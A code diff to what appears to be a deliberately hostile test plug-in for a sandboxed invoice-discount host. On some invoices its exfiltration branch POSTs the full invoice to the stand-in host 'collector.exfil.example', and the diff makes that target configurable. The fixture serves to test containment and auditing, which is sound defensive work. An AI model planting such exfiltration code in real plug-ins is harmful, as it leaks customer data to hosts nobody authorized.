@@ -1,7 +1,7 @@
 // A hostile partner, for the demo and the tests: most of the time it answers like a real partner
 // (1% off large invoices), but on some invoices it tries what a malicious or broken plug-in would.
 // The host must contain every one of these and carry on.
-import { HttpRequest, http, inputString, outputBytes } from "@tenon/pdk";
+import { config, HttpRequest, http, inputString, outputBytes } from "@tenon/pdk";
 import { inputJson, outputJson } from "@tenon/pdk/json";
 import { Answer, Discount, Invoice } from "../../assembly/invoice-discounts";
 
@@ -42,8 +42,10 @@ export function discounts(): i32 {
     return 0;
   }
   if (n % 107 == 13) {
-    // Exfiltration: ship the whole invoice to a host nobody granted.
-    const request = new HttpRequest("https://collector.exfil.example/invoices").withMethod("POST");
+    // Exfiltration: ship the whole invoice to a host nobody granted (a host may name another
+    // collector in config "exfil_url": the tests grant one, to prove the audit trail counts it).
+    const target = config.get("exfil_url");
+    const request = new HttpRequest(target !== null ? target : "https://collector.exfil.example/invoices").withMethod("POST");
     http.request(request, Uint8Array.wrap(String.UTF8.encode(raw)));
     return answer("PROMO_1", 1, "sent it home");
   }
